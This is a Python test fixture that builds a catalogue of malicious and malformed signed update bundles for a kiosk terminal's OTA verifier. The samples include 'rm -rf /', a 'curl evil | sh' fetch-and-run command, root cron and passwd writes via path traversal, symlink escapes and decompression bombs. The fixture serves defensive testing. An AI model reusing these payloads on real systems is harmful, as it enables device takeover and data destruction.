"""A catalogue of malicious and broken update bundles, each with the reason
code the terminal must refuse it with. Every bundle is a real ``.swu`` file
that goosebit accepts for upload (``sw-description`` first), unless marked
``uploadable=False``.

The device under test runs version 1.0.0 installed from a manifest with
counter 5, trusts key id ``test`` and is board ``care-pi`` revision ``1``.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from device_sim import make_release

from sync.ota import swu
from sync.ota.bundle import tar_directory
from sync.ota.manifest import sign_manifest

INSTALLED_VERSION = "1.0.0"
INSTALLED_COUNTER = 5
BOARD, REVISION = "care-pi", "1"


@dataclass
class Ctx:
    tmp: Path
    key: Ed25519PrivateKey
    rogue: Ed25519PrivateKey
    swu_version: str  # what goosebit sees; unique per upload

    def app_tar(self, version: str = "1.1.0", **kw: Any) -> bytes:
        src = self.tmp / f"app-src-{version}-{len(list(self.tmp.iterdir()))}"
        make_release(src, version, **kw)
        out = self.tmp / f"{src.name}.tar.gz"
        tar_directory(src, out)
        return out.read_bytes()


def tar_bytes(members: list[tuple[tarfile.TarInfo, bytes | None]], gz: bool = True) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return gzip.compress(raw.getvalue(), mtime=0) if gz else raw.getvalue()


def ti(
    name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", mode: int = 0o644
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    info.mode = mode
    return info


def release_members(version: str = "1.1.0") -> list[tuple[tarfile.TarInfo, bytes | None]]:
    """A minimal valid app tree to which a case adds its bad entry."""
    return [
        (ti("bin", tarfile.DIRTYPE, mode=0o755), None),
        (ti("release.json"), json.dumps({"version": version}).encode()),
        (ti("bin/kiosk", mode=0o755), b"#!/bin/sh\nexit 0\n"),
    ]


def manifest(
    payloads: dict[str, tuple[str, bytes]],
    *,
    version: str = "1.1.0",
    counter: int = 10,
    unpacked: int | None = None,
    **extra: Any,
) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "format": 1,
        "product": "care-terminal",
        "version": version,
        "counter": counter,
        "created": "2026-05-01T10:00:00+08:00",
        "boards": {BOARD: [REVISION]},
        "payloads": [
            {
                "name": name,
                "role": role,
                "sha256": hashlib.sha256(data).hexdigest(),
                "size": len(data),
                "unpacked_size": unpacked if unpacked is not None else 1 << 20,
            }
            for name, (role, data) in payloads.items()
        ],
    }
    doc.update(extra)
    return doc


def encode(doc: dict[str, Any]) -> bytes:
    return json.dumps(doc, sort_keys=True, indent=1).encode()


def assemble(
    ctx: Ctx,
    name: str,
    *,
    raw: bytes | None,
    sig: bytes | None,
    files: list[tuple[str, bytes]],
    trailing: bytes = b"",
) -> Path:
    entries: list[tuple[str, bytes | Path]] = [
        (swu.SW_DESCRIPTION, swu.sw_description(ctx.swu_version, {BOARD: [REVISION]}))
    ]
    if raw is not None:
        entries.append(("manifest.json", raw))
    if sig is not None:
        entries.append(("manifest.sig", sig))
    entries.extend(files)
    dest = ctx.tmp / f"{name}.swu"
    swu.write_swu(dest, entries)
    if trailing:
        with dest.open("ab") as fh:
            fh.write(trailing)
    return dest


def signed(
    ctx: Ctx,
    name: str,
    files: dict[str, tuple[str, bytes]],
    *,
    key: Ed25519PrivateKey | None = None,
    key_id: str = "test",
    mutate: Callable[[dict[str, Any]], None] | None = None,
    ship: list[tuple[str, bytes]] | None = None,
    **mkw: Any,
) -> Path:
    doc = manifest(files, **mkw)
    if mutate:
        mutate(doc)
    raw = encode(doc)
    sig = sign_manifest(raw, key or ctx.key, key_id)
    shipped = ship if ship is not None else [(n, d) for n, (_, d) in files.items()]
    return assemble(ctx, name, raw=raw, sig=sig, files=shipped)


def app_only(ctx: Ctx, name: str, tar: bytes, **kw: Any) -> Path:
    return signed(ctx, name, {"app.tar.gz": ("app", tar)}, **kw)


# -- the cases -----------------------------------------------------------------------------------


def _bad_sig(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    raw = encode(manifest({"app.tar.gz": ("app", tar)}))
    sig = json.loads(sign_manifest(raw, ctx.key, "test"))
    s = bytearray(__import__("base64").b64decode(sig["sig"]))
    s[5] ^= 0x01
    sig["sig"] = __import__("base64").b64encode(bytes(s)).decode()
    return assemble(
        ctx, "bad-sig", raw=raw, sig=json.dumps(sig).encode(), files=[("app.tar.gz", tar)]
    )


def _tampered_manifest(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    raw = encode(manifest({"app.tar.gz": ("app", tar)}))
    sig = sign_manifest(raw, ctx.key, "test")
    return assemble(
        ctx,
        "tampered-manifest",
        raw=raw.replace(b'"1.1.0"', b'"9.9.9"'),
        sig=sig,
        files=[("app.tar.gz", tar)],
    )


def _forged_key_id(ctx: Ctx) -> Path:
    return app_only(ctx, "forged-key-id", ctx.app_tar(), key=ctx.rogue, key_id="test")


def _unknown_key(ctx: Ctx) -> Path:
    return app_only(ctx, "unknown-key", ctx.app_tar(), key=ctx.rogue, key_id="rogue")


def _no_sig(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    return assemble(
        ctx,
        "no-sig",
        raw=encode(manifest({"app.tar.gz": ("app", tar)})),
        sig=None,
        files=[("app.tar.gz", tar)],
    )


def _no_manifest(ctx: Ctx) -> Path:
    return assemble(ctx, "no-manifest", raw=None, sig=None, files=[("app.tar.gz", ctx.app_tar())])


def _sig_garbage(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    return assemble(
        ctx,
        "sig-garbage",
        raw=encode(manifest({"app.tar.gz": ("app", tar)})),
        sig=b"\x00\xffnot json",
        files=[("app.tar.gz", tar)],
    )


def _signed_garbage(ctx: Ctx) -> Path:
    raw = b"this is not json {"
    return assemble(
        ctx,
        "signed-garbage",
        raw=raw,
        sig=sign_manifest(raw, ctx.key, "test"),
        files=[("app.tar.gz", ctx.app_tar())],
    )


def _unknown_field(ctx: Ctx) -> Path:
    return app_only(
        ctx, "unknown-field", ctx.app_tar(), mutate=lambda d: d.update(run_as_root=True)
    )


def _no_app(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    return signed(ctx, "no-app", {"model-pack.tar.gz": ("model_pack", tar)})


def _wrong_product(ctx: Ctx) -> Path:
    return app_only(
        ctx, "wrong-product", ctx.app_tar(), mutate=lambda d: d.update(product="other-kiosk")
    )


def _wrong_board(ctx: Ctx) -> Path:
    return app_only(
        ctx, "wrong-board", ctx.app_tar(), mutate=lambda d: d.update(boards={"pi-zero": ["1"]})
    )


def _wrong_revision(ctx: Ctx) -> Path:
    return app_only(
        ctx, "wrong-revision", ctx.app_tar(), mutate=lambda d: d.update(boards={BOARD: ["7"]})
    )


def _downgrade(ctx: Ctx) -> Path:
    return app_only(ctx, "downgrade", ctx.app_tar("0.9.0"), version="0.9.0", counter=11)


def _replay_old(ctx: Ctx) -> Path:
    # A genuine, validly signed old release manifest (counter 3 < installed 5).
    return app_only(ctx, "replay-old", ctx.app_tar("0.8.0"), version="0.8.0", counter=3)


def _replay_same_counter(ctx: Ctx) -> Path:
    return app_only(
        ctx, "replay-same-counter", ctx.app_tar("1.2.0"), version="1.2.0", counter=INSTALLED_COUNTER
    )


def _bad_version(ctx: Ctx) -> Path:
    return app_only(ctx, "bad-version", ctx.app_tar(), version="1.2.0-beta")


def _tampered_payload(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    bad = bytearray(tar)
    bad[len(bad) // 2] ^= 0xFF
    return signed(
        ctx, "tampered-payload", {"app.tar.gz": ("app", tar)}, ship=[("app.tar.gz", bytes(bad))]
    )


def _wrong_hash(ctx: Ctx) -> Path:
    tar = ctx.app_tar()

    def m(d: dict[str, Any]) -> None:
        d["payloads"][0]["sha256"] = hashlib.sha256(b"something else").hexdigest()

    return app_only(ctx, "wrong-hash", tar, mutate=m)


def _truncated(ctx: Ctx) -> Path:
    p = app_only(ctx, "truncated", ctx.app_tar())
    data = p.read_bytes()
    p.write_bytes(data[: len(data) - 700])
    return p


def _short_payload(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    return signed(
        ctx, "short-payload", {"app.tar.gz": ("app", tar)}, ship=[("app.tar.gz", tar[:-10])]
    )


def _declared_length_wrong(ctx: Ctx) -> Path:
    def m(d: dict[str, Any]) -> None:
        d["payloads"][0]["size"] += 1

    return app_only(ctx, "declared-length", ctx.app_tar(), mutate=m)


def _oversize_download(ctx: Ctx) -> Path:
    big = os.urandom(1_300_000)  # the test agent allows 1 MiB bundles
    tar = tar_bytes([*release_members(), (ti("lib/blob.bin"), big)], gz=False)
    return signed(ctx, "oversize-download", {"app.tar": ("app", tar)})


def _declared_unpacked_too_big(ctx: Ctx) -> Path:
    return app_only(ctx, "unpacked-too-big", ctx.app_tar(), unpacked=1 << 40)


def _gzip_bomb(ctx: Ctx) -> Path:
    tar = tar_bytes([*release_members(), (ti("lib/zeros.bin"), b"\0" * (24 << 20))])
    return app_only(ctx, "gzip-bomb", tar, unpacked=4096)


def _unlisted_file(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    return signed(
        ctx,
        "unlisted",
        {"app.tar.gz": ("app", tar)},
        ship=[("app.tar.gz", tar), ("postinst.sh", b"#!/bin/sh\nrm -rf /\n")],
    )


def _missing_file(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    return signed(
        ctx,
        "missing-file",
        {"app.tar.gz": ("app", tar), "model-pack.tar.gz": ("model_pack", tar)},
        ship=[("app.tar.gz", tar)],
    )


def _trailing_garbage(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    raw = encode(manifest({"app.tar.gz": ("app", tar)}))
    return assemble(
        ctx,
        "trailing",
        raw=raw,
        sig=sign_manifest(raw, ctx.key, "test"),
        files=[("app.tar.gz", tar)],
        trailing=b"#!/bin/sh\necho owned\n",
    )


def _cpio_path_name(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    raw = encode(manifest({"app.tar.gz": ("app", tar)}))
    return assemble(
        ctx,
        "cpio-path",
        raw=raw,
        sig=sign_manifest(raw, ctx.key, "test"),
        files=[("app.tar.gz", tar), ("../../etc/cron.d/x", b"* * * * * root sh\n")],
    )


def _cpio_duplicate(ctx: Ctx) -> Path:
    tar = ctx.app_tar()
    raw = encode(manifest({"app.tar.gz": ("app", tar)}))
    return assemble(
        ctx,
        "cpio-dup",
        raw=raw,
        sig=sign_manifest(raw, ctx.key, "test"),
        files=[("app.tar.gz", tar), ("app.tar.gz", b"second copy")],
    )


def _archive(
    name: str,
    extra: list[tuple[tarfile.TarInfo, bytes | None]],
    first: list[tuple[tarfile.TarInfo, bytes | None]] | None = None,
) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        members = (first or []) + release_members() + extra
        return app_only(ctx, name, tar_bytes(members))

    return build


def _truncated_tar(ctx: Ctx) -> Path:
    tar = tar_bytes([*release_members(), (ti("lib/data.bin"), os.urandom(20000))])
    return app_only(ctx, "truncated-tar", tar[: len(tar) // 2])


def _no_release_json(ctx: Ctx) -> Path:
    return app_only(
        ctx, "no-release-json", tar_bytes([(ti("bin/kiosk", mode=0o755), b"#!/bin/sh\n")])
    )


def _release_json_mismatch(ctx: Ctx) -> Path:
    return app_only(ctx, "release-json-mismatch", ctx.app_tar("2.0.0"))


def _migrate_outside(ctx: Ctx) -> Path:
    rel = {"version": "1.1.0", "migrate": ["/bin/sh", "-c", "curl evil | sh"]}
    return app_only(
        ctx, "migrate-outside", tar_bytes([(ti("release.json"), json.dumps(rel).encode())])
    )


# -- hand-made tar streams (header blocks written directly) ----------------------------------


def header(name: str, kind: bytes, size: int = 0, linkname: str = "") -> bytes:
    """One 512-byte ustar header block with a correct checksum."""
    info = ti(name, kind, linkname)
    info.size = size
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def with_data(head: bytes, data: bytes) -> bytes:
    return head + data + bytes(-len(data) % 512)


def ext(kind: bytes, data: bytes) -> bytes:
    """A GNU long-name/long-link ('L'/'K') or PAX ('x'/'g') header with data."""
    return with_data(header("././@LongLink", kind, len(data)), data)


def pax_record(key: str, value: bytes) -> bytes:
    body = f" {key}=".encode() + value + b"\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n += 1
    return str(n).encode() + body


def raw_tar(*parts: bytes, tail: bytes = b"") -> bytes:
    """Members already encoded, the end-of-archive marker, then ``tail``; gzipped."""
    members = b"".join(
        with_data(header(i.name, i.type, len(d or b"")), d or b"")
        if i.type == tarfile.REGTYPE
        else header(i.name, i.type, 0, i.linkname)
        for i, d in release_members()
    )
    return gzip.compress(members + b"".join(parts) + bytes(1024) + tail, compresslevel=9, mtime=0)


def _raw(name: str, *parts: bytes, tail: bytes = b"") -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        return app_only(ctx, name, raw_tar(*parts, tail=tail))

    return build


BOMB = 16 << 20  # 16 MiB of header data: 16 KB gzipped


@dataclass(frozen=True)
class Case:
    name: str
    code: str
    build: Callable[[Ctx], Path]


CASES: list[Case] = [
    Case("bad signature", "bad_signature", _bad_sig),
    Case("manifest changed after signing", "bad_signature", _tampered_manifest),
    Case("signed by an untrusted key claiming a trusted key id", "bad_signature", _forged_key_id),
    Case("signed by an unknown key", "unknown_key", _unknown_key),
    Case("no signature", "missing_manifest", _no_sig),
    Case("no manifest", "missing_manifest", _no_manifest),
    Case("signature not JSON", "bad_signature", _sig_garbage),
    Case("signed manifest is not JSON", "bad_manifest", _signed_garbage),
    Case("manifest with an unknown field", "bad_manifest", _unknown_field),
    Case("manifest without an app payload", "bad_manifest", _no_app),
    Case("bundle for another product", "wrong_product", _wrong_product),
    Case("bundle for another board", "wrong_product", _wrong_board),
    Case("bundle for another hardware revision", "wrong_product", _wrong_revision),
    Case("downgrade", "downgrade", _downgrade),
    Case("replayed old manifest", "replayed", _replay_old),
    Case("replayed counter with a newer version", "replayed", _replay_same_counter),
    Case("pre-release version string", "bad_manifest", _bad_version),
    Case("tampered payload", "hash_mismatch", _tampered_payload),
    Case("wrong hash in the manifest", "hash_mismatch", _wrong_hash),
    Case("truncated bundle", "bad_container", _truncated),
    Case("payload shorter than declared", "length_mismatch", _short_payload),
    Case("declared length off by one", "length_mismatch", _declared_length_wrong),
    Case("bundle larger than allowed", "oversize", _oversize_download),
    Case("declared unpacked size over the cap", "oversize", _declared_unpacked_too_big),
    Case("gzip bomb", "oversize", _gzip_bomb),
    Case("file not listed in the manifest", "unlisted_file", _unlisted_file),
    Case("listed payload missing", "missing_file", _missing_file),
    Case("data after the cpio trailer", "bad_container", _trailing_garbage),
    Case("cpio entry with a path", "bad_container", _cpio_path_name),
    Case("duplicate cpio entry", "bad_container", _cpio_duplicate),
    Case(
        "path traversal",
        "unsafe_archive",
        _archive("traversal", [(ti("../../etc/cron.d/evil"), b"x")]),
    ),
    Case(
        "nested path traversal",
        "unsafe_archive",
        _archive("traversal2", [(ti("lib/../../x"), b"x")]),
    ),
    Case(
        "absolute path",
        "unsafe_archive",
        _archive("absolute", [(ti("/etc/passwd"), b"root::0:0\n")]),
    ),
    Case(
        "backslash path", "unsafe_archive", _archive("backslash", [(ti("..\\..\\evil.bat"), b"x")])
    ),
    Case(
        "symlink pointing out",
        "unsafe_archive",
        _archive("symlink-out", [(ti("lib/etc", tarfile.SYMTYPE, "../../../../etc"), None)]),
    ),
    Case(
        "absolute symlink",
        "unsafe_archive",
        _archive("symlink-abs", [(ti("lib/passwd", tarfile.SYMTYPE, "/etc/passwd"), None)]),
    ),
    Case(
        "write through an internal symlink",
        "unsafe_archive",
        _archive(
            "symlink-through", [(ti("data", tarfile.SYMTYPE, "bin"), None), (ti("data/x"), b"x")]
        ),
    ),
    Case(
        "hard link pointing out",
        "unsafe_archive",
        _archive("hardlink-out", [(ti("lib/shadow", tarfile.LNKTYPE, "../../etc/shadow"), None)]),
    ),
    Case(
        "hard link to a file not in the archive",
        "unsafe_archive",
        _archive("hardlink-absent", [(ti("lib/passwd", tarfile.LNKTYPE, "etc/passwd"), None)]),
    ),
    Case(
        "character device",
        "unsafe_archive",
        _archive("chardev", [(ti("dev/mem", tarfile.CHRTYPE), None)]),
    ),
    Case(
        "block device",
        "unsafe_archive",
        _archive("blockdev", [(ti("dev/sda", tarfile.BLKTYPE), None)]),
    ),
    Case("FIFO", "unsafe_archive", _archive("fifo", [(ti("run/pipe", tarfile.FIFOTYPE), None)])),
    Case(
        "duplicate archive member",
        "unsafe_archive",
        _archive("dup-member", [(ti("bin/kiosk", mode=0o755), b"#!/bin/sh\nevil\n")]),
    ),
    Case(
        "symlink through an earlier symlink",
        "unsafe_archive",
        _archive(
            "symlink-chain",
            [
                (ti("lib", tarfile.DIRTYPE, mode=0o755), None),
                (ti("lib/up", tarfile.SYMTYPE, ".."), None),
                (ti("esc", tarfile.SYMTYPE, "lib/up/.."), None),
            ],
        ),
    ),
    Case(
        "symlink through a symlink that comes later",
        "unsafe_archive",
        _archive(
            "symlink-chain-later",
            [
                (ti("esc", tarfile.SYMTYPE, "lib/up/../etc"), None),
                (ti("lib", tarfile.DIRTYPE, mode=0o755), None),
                (ti("lib/up", tarfile.SYMTYPE, ".."), None),
            ],
        ),
    ),
    Case(
        "GNU long-name header bomb",
        "unsafe_archive",
        _raw("longname-bomb", ext(b"L", b"a" * BOMB), header("x", tarfile.REGTYPE)),
    ),
    Case(
        "GNU long-link header bomb",
        "unsafe_archive",
        _raw("longlink-bomb", ext(b"K", b"b" * BOMB), header("l", tarfile.SYMTYPE, 0, "x")),
    ),
    Case(
        "PAX header bomb",
        "unsafe_archive",
        _raw("pax-bomb", ext(b"x", pax_record("comment", b"7" * BOMB)), header("y", b"0")),
    ),
    Case(
        "PAX header with records that do not tile",
        "unsafe_archive",
        _raw("pax-malformed", ext(b"x", b"99 path=lib/evil\n"), header("z", b"0")),
    ),
    Case(
        "PAX size on a symlink (parser desync)",
        "unsafe_archive",
        _raw(
            "pax-desync",
            ext(b"x", pax_record("size", b"512")),
            header("lib/l", tarfile.SYMTYPE, 0, "../bin"),
            header("../../etc/cron.d/evil", tarfile.REGTYPE),
        ),
    ),
    Case(
        "global PAX header renaming every entry",
        "unsafe_archive",
        _raw("pax-global", ext(b"g", pax_record("path", b"../../evil")), header("w", b"0")),
    ),
    Case(
        "chained long-name headers",
        "unsafe_archive",
        _raw("longname-chain", ext(b"L", b"a\0"), ext(b"L", b"b\0"), header("v", b"0")),
    ),
    Case(
        "zero bomb after the end of the archive",
        "oversize",
        _raw("trailer-bomb", tail=bytes(32 << 20)),
    ),
    Case(
        "data hidden after the end of the archive",
        "damaged_archive",
        _raw("trailer-data", tail=b"#!/bin/sh\necho hidden\n"),
    ),
    Case("truncated archive inside a signed payload", "damaged_archive", _truncated_tar),
    Case("app without release.json", "bad_manifest", _no_release_json),
    Case("release.json names another version", "bad_manifest", _release_json_mismatch),
    Case("migrate command outside the release", "bad_manifest", _migrate_outside),
]
